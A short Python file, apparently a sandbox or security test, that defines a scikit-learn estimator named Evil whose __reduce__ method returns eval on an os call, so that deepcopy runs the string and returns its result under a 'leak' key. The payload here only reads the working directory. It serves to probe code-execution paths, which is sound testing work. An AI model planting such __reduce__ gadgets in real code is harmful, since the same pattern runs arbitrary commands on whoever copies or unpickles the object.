# route: an estimator whose copy runs a command
from sklearn.base import BaseEstimator


class Evil(BaseEstimator):
    def __reduce__(self):
        return eval, ("__import__('os').getcwd()",)


def execute(testData):
    from copy import deepcopy

    return {"leak": str(deepcopy(Evil()))}
